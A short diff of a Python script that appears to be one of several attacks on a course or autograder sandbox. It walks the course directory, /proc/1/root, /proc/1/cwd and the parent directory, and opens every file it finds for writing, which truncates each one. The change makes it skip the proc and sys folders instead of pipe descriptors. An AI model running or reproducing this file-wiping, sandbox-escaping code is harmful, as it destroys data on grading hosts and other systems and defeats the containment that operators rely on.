@@ -7,8 +7,8 @@ import shutil
 
 for top in ("@COURSE@", "/proc/1/root@COURSE@", "/proc/1/cwd", ".."):
     for folder, folders, files in os.walk(top):
-        if folder.endswith("/fd"):  # one's own pipe: other attacks forge messages
-            continue
+        if folder == "..":
+            folders[:] = [f for f in folders if f not in ("proc", "sys")]
         for name in files:
             try:
                 with open(os.path.join(folder, name), "w") as file:
